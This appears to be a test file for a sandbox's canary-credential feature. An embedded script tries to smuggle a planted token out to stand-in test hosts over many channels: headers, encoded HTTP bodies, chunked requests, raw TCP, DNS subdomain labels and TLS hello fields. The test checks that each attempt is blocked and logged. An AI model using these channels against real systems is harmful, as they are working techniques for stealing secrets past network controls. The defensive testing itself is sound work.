#!/usr/bin/env python3
"""Canaries: credentials that are good for nothing, and what carries one out is stopped. TAP.

Every way out is tried twice with the same value: in a sandbox where it is just a text, and has to arrive, or
the try proves nothing; and in one where it is a canary.

    tests/net/canary.py          all (needs root)
    tests/net/canary.py DNS      those with the word in their title
"""
import json
import pathlib
import shutil
import socketserver
import subprocess
import sys
import threading

import place  # before lib, whose folder it knows
import lib
import servers
from lib import check, same, test, wait_until
from place import Box, caisson

SINK = 8300
NET = {"allow": ["api.test", "api.test:8200", f"sink.test:{SINK}", "*.wild.test"], "inspect": ["api.test"]}
PASSWORD = "a password for the forge"
caught = []  # (way, bytes) of what arrived: each try says which it is

# In one process inside: each way out, with the value; a line for each says whether nobody objected.
WAYS = r"""
import base64, http.client, json, os, socket, ssl, sys, time, urllib.parse
value = sys.argv[1]
raw, hexed, coded = value.encode(), value.encode().hex(), base64.b64encode(b"ab" + value.encode()).decode()
trust = ssl.create_default_context(cafile=os.environ.get("BUNDLE"))

def ask(way, target="/", body=None, fields=(), plain=False, chunks=None):
    c = http.client.HTTPConnection("api.test", 8200, timeout=30) if plain else http.client.HTTPSConnection("api.test", timeout=30, context=trust)
    c.putrequest("POST", target)
    c.putheader("X-Way", way)
    for k, v in dict(fields).items():
        c.putheader(k, v)
    if chunks:
        c.putheader("Transfer-Encoding", "chunked")
        c.endheaders()
        for chunk in chunks:
            c.send(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            time.sleep(0.01)
        c.send(b"0\r\n\r\n")
    else:
        c.putheader("Content-Length", str(len(body or b"")))
        c.endheaders()
        c.send(body or b"")
    return c.getresponse().status == 200

def two_requests(way):
    c = http.client.HTTPSConnection("api.test", timeout=30, context=trust)
    c.request("GET", "/", headers={"X-Way": "innocent"})
    first = c.getresponse()
    first.read()
    c.request("GET", "/" + value, headers={"X-Way": way})
    return first.status == 200 and c.getresponse().status == 200

def stream(way, pieces):
    s = socket.create_connection(("sink.test", 8300), 30)
    s.sendall(way.encode() + b"\n")
    for piece in pieces:
        s.sendall(piece)
        time.sleep(0.02)
    s.shutdown(socket.SHUT_WR)
    return s.recv(10) == b"thanks"

def name(way, host):
    return bool(socket.getaddrinfo(host, 443, socket.AF_INET))

def sni(way):
    s = socket.create_connection((socket.gethostbyname("a.wild.test"), 443), 30)
    lax = ssl.create_default_context()
    lax.check_hostname, lax.verify_mode = False, ssl.CERT_NONE
    lax.set_alpn_protocols(["http/1.1", value])
    lax.wrap_socket(s, server_hostname="a.wild.test")
    return True

low = value.lower().replace("_", "")
ways = {
    "header": lambda w: ask(w, fields={"X-Note": value}),
    "target": lambda w: ask(w, "/x?q=" + value),
    "target escaped": lambda w: ask(w, "/x?q=" + "".join("%%%02X" % b for b in raw)),
    "cookie base64": lambda w: ask(w, fields={"Cookie": "s=" + coded}),
    "body": lambda w: ask(w, body=b"x" * 100000 + raw + b"y" * 100000),
    "body hex": lambda w: ask(w, body=hexed.upper().encode()),
    "body base64": lambda w: ask(w, body=json.dumps({"data": coded}).encode()),
    "body base64 in lines": lambda w: ask(w, body=base64.encodebytes(b"z" * 40 + raw + b"z" * 40)),
    "chunks of three": lambda w: ask(w, chunks=[raw[i:i + 3] for i in range(0, len(raw), 3)]),
    "second request": two_requests,
    "plain http": lambda w: ask(w, body=raw, plain=True),
    "plain http target": lambda w: ask(w, "/" + value, plain=True),
    "tcp": lambda w: stream(w, [raw]),
    "tcp byte by byte": lambda w: stream(w, [raw[i:i + 1] for i in range(len(raw))]),
    "tcp hex": lambda w: stream(w, [hexed.encode()]),
    "dns": lambda w: name(w, low + ".wild.test"),
    "dns in two": lambda w: name(w, low[:20] + "-" + low[20:] + ".wild.test"),
    "dns hex": lambda w: name(w, hexed[:60] + ".wild.test"),
    "dns base32": lambda w: name(w, base64.b32encode(raw).decode().strip("=").lower()[:63] + ".wild.test"),
    "hello": sni,
}
for way, go in ways.items():
    try:
        said = bool(go(way))
    except Exception as e:
        said = False
        print(way, repr(e), file=sys.stderr)
    print(json.dumps([way, said]), flush=True)
"""

REST = r"""
import http.server, sys
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *_): pass
    def do_GET(self):
        n = int(self.headers.get("Content-Length") or 0)
        if self.headers.get("Transfer-Encoding") == "chunked":
            while int(self.rfile.readline(), 16):
                self.rfile.readline()
            self.rfile.readline()
        else:
            self.rfile.read(n)
        with open(sys.argv[3], "a") as log:
            log.write((self.headers.get("X-Way") or "?") + "\n")
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    do_POST = do_GET
http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Handler).serve_forever()
"""


class Sink(socketserver.BaseRequestHandler):
    def handle(self):
        data = b""
        try:
            while piece := self.request.recv(65536):
                data += piece
            self.request.sendall(b"thanks")
        except ConnectionError:
            pass  # the gate's, in the middle
        caught.append((data.split(b"\n")[0].decode(), data))


class SinkServer(socketserver.ThreadingTCPServer):
    allow_reuse_address, daemon_threads = True, True


def said_file():
    return servers.FOLDER / "canary.said"


def arrived():
    return said_file().read_text().splitlines() if said_file().exists() else []


def begin():
    servers.FOLDER.mkdir(parents=True, exist_ok=True)
    finish = place.prepare()
    hashed = servers.run("openssl", "passwd", "-apr1", PASSWORD).decode().strip()
    (servers.FOLDER / "forge.users").write_text(f"robot:{hashed}\n")
    place.names.zone.update({"*.wild.test": [servers.WEB], "sink.test": [servers.WEB]})
    rest = servers.Server("canary", ["/usr/bin/python3", "-c", REST, servers.WEB, "8200", said_file()], (servers.WEB, 8200))
    lib.SURROUNDINGS.append(rest.process.pid)
    sink = SinkServer((servers.WEB, SINK), Sink)
    threading.Thread(target=sink.serve_forever, daemon=True).start()

    def end():
        sink.shutdown()
        rest.stop()
        finish()
    return end


def make(api, *creds, **spec):
    return Box(api.client, spec.pop("net", NET), **{"env": place.PLAIN_ENV, "creds": list(creds), **spec})


def plant(api, name, *words):
    caisson(api.daemon, "secret", "canary", name, *words)
    return api.client.ok("GET", f"/v1/secrets/{name}")["bind"]


def events(api, kind="secret.canary"):
    answer = api.client.get(f"/v1/events?kind={kind}")
    same(answer.status, 200, answer)
    return [e for e in map(json.loads, answer.body.decode().splitlines()) if e["kind"] == kind]


# ---- making -----------------------------------------------------------------------------------

@test("canary: made to look like something, placed in a variable and a file; with and without a network")
def _(api):
    aws = plant(api, "aws")
    same((aws["canary"][:4], len(aws["canary"]), aws["env"]), ("AKIA", 20, "AWS_ACCESS_KEY_ID"))
    mine = plant(api, "mine", "--like", "acme_tok_Ab1Cd2Ef3Gh4Ij5Kl6", "--env", "ACME", "--at", "/home/agent/.acme/token")
    check(mine["canary"].startswith("acme_tok_") and mine["canary"] != "acme_tok_Ab1Cd2Ef3Gh4Ij5Kl6", mine)
    for net in (NET, "deny"):
        box = make(api, "aws", "mine", net=net)
        box.good("printenv AWS_ACCESS_KEY_ID ACME", f"{aws['canary']}\n{mine['canary']}\n")
        wait_until(lambda box=box: mine["canary"] in box.run("cat /home/agent/.acme/token")[0]["stdout"], 5, "the file")
        api.client.delete(f"/v1/sandboxes/{box.id}")
    same(caisson(api.daemon, "run", "--creds", "aws", "printenv", "AWS_ACCESS_KEY_ID").stdout, aws["canary"] + "\n")
    shown = caisson(api.daemon, "secret", "ls").stdout
    check("canary" in shown and "ACME" in shown, shown)
    for words in (["--like", "short"], ["--like", "aws", "--host", "api.test"], ["--at", "relative"], ["--at", "/proc/x"]):
        caisson(api.daemon, "secret", "canary", "wrong", *words, status=(1, 2, 125))
    same(api.client.put("/v1/secrets/wrong", {"bind": json.dumps({"canary": aws["canary"]})}).code, "invalid")
    same(api.client.put("/v1/secrets/wrong", {"bind": json.dumps({"hosts": ["api.test"]})}).code, "invalid")
    same(api.client.put("/v1/secrets/wrong", {"bind": json.dumps({"canary": aws["canary"], "env": "X"}), "sealed": "eA=="}).code, "invalid")


# ---- ways out ---------------------------------------------------------------------------------

@test("canary: no byte that can be read carries it out; each try arrives where it is none")
def _(api):
    value = plant(api, "git", "--like", "github", "--env", "GITHUB_TOKEN")["canary"]
    outcomes = {}
    for arm, creds in (("control", ()), ("canary", ("git",))):
        said_file().write_text("")
        caught.clear()
        box = make(api, *creds)
        box.put("/work/ways.py", WAYS)
        done = box.good(["python3", "/work/ways.py", value], seconds=90)[0]
        outcomes[arm] = dict(json.loads(line) for line in done["stdout"].splitlines()), done, box, set(arrived()), dict(caught)
    said, done, _box, heard, streams = outcomes["control"]
    check(all(said.values()), lambda: f"{said}\n{done['stderr']}")
    ways = list(said)
    said, done, box, heard, streams = outcomes["canary"]
    check(not any(said.values()), lambda: f"{said}\n{done['stderr']}")
    same(list(said), ways)
    check(heard <= {"innocent"}, heard)
    check(not any(value.encode() in data for data in streams.values()), streams)
    n_names = len([w for w in ways if w.startswith("dns")])
    rows = box.records_of(len(ways) - n_names, lambda r: r["reason"] == "canary" and r["kind"] == "connection")
    check(all(r["decision"] == "deny" and r["secrets"] == ["git"] for r in rows), rows)
    same(len(rows), len(ways) - n_names)
    lookups = box.records_of(n_names, lambda r: r["reason"] == "canary" and r["kind"] == "lookup")
    same((len(lookups), n_names), (4, 4))
    check(any(v.get("reason") == "canary" for v in done["violations"]["net"]) if isinstance(done["violations"], dict) else "canary" in json.dumps(done["violations"]),
          lambda: done["violations"])
    told = wait_until(lambda: e if len(e := [e for e in events(api) if e["sandbox"] == box.id]) >= len(ways) else None, 5, "events")
    check(all(e["data"]["name"] == "git" for e in told), told)
    same(api.client.ok("GET", "/v1/secrets/git")["uses"] >= len(ways), True)


# ---- promotions -------------------------------------------------------------------------------

WHO = "-c user.name=a -c user.email=a@example.org"


@test("canary: a change that has it is not committed, exported, applied or pushed; without it, it is")
def _(api):
    value = plant(api, "git", "--like", "github", "--env", "GITHUB_TOKEN")["canary"]
    done = subprocess.run([str(lib.cell.BIN / "caisson"), "secret", "set", "forge", "--host", "forge.test", "--inject", "basic:robot"], input=PASSWORD,
                          text=True, capture_output=True, timeout=100, cwd="/", check=False,
                          env={"PATH": place.PATH, "HOME": "/nowhere", "CAISSON_SOCKET": str(api.daemon.socket)})
    same(done.returncode, 0, done)
    caisson(api.daemon, "repo", "add", "https://forge.test/project.git", "--cred", "forge")
    repo = api.client.ok("GET", "/v1/repos")["repos"][0]
    work = api.client.ok("PUT", "/v1/workspaces/task", {"repo": repo["id"], "branch": "agent/canary"})
    path = f"/v1/workspaces/{work['id']}"
    api.client.ok("PUT", f"{path}/files/new.txt", b"new\n")
    api.client.ok("POST", f"{path}/commits", {"message": "innocent"})
    box = Box(api.client, "deny", env=place.PLAIN_ENV, creds=["git"], workspace=work["id"])
    ways = {
        "commit": lambda: api.client.post(f"{path}/commits", {"message": "x", "allow_empty": True}),
        "patch": lambda: api.client.get(f"{path}/export?format=patch"),
        "bundle": lambda: api.client.get(f"{path}/export?format=bundle"),
        "push": lambda: api.client.post(f"{path}/push", {}),
    }
    before = len(events(api))
    # In a file that is text, and in one that is not; as it is, and as base64 within a commit of the agent's own.
    box.good("printf 'x\\000%s\\000' \"$GITHUB_TOKEN\" >/work/leaked.bin")
    same(ways["commit"]().code, "denied")
    seen = api.client.get(f"{path}/changes?format=patch")
    check(seen.status == 200, lambda: f"who judges it has to see it: {seen}")
    folder = pathlib.Path("/run/target")
    folder.mkdir(exist_ok=True)
    done = caisson(api.daemon, "apply", work["id"], "--to", folder, "--yes", status=(1, 2, 125))
    check("canary" in done.stderr and not (folder / "leaked.bin").exists(), done)
    box.good(f"cd /work && rm leaked.bin && printf %s \"$GITHUB_TOKEN\" | base64 -w0 >data && git add data && git {WHO} commit -qm data && "
             f"git rm -q data && git {WHO} commit -qm gone")
    for name in ("push", "patch", "bundle"):
        answer = ways[name]()
        same((name, answer.code), (name, "denied"))
    refs = servers.run("git", "-C", servers.FOLDER / "git/project.git", "-c", "safe.directory=*", "for-each-ref", "--format=%(refname)").decode()
    check("agent/canary" not in refs, refs)
    told = wait_until(lambda: e if len(e := events(api)) >= before + 5 else None, 5, "events")
    check(all(e["workspace"] == work["id"] for e in told[before:]), told)
    box.good("cd /work && git reset -q --hard HEAD~2")
    for name, go in ways.items():
        answer = go()
        check(answer.status < 300, f"{name}: {answer}")
    caisson(api.daemon, "apply", work["id"], "--to", folder, "--yes")
    check((folder / "new.txt").exists(), "applied")
    shutil.rmtree(folder)
    api.client.delete(f"/v1/sandboxes/{box.id}")
    api.client.delete(f"{path}?force=1")
    api.client.delete(f"/v1/repos/{repo['id']}")


if __name__ == "__main__":
    sys.exit(place.main(__file__, begin=begin))
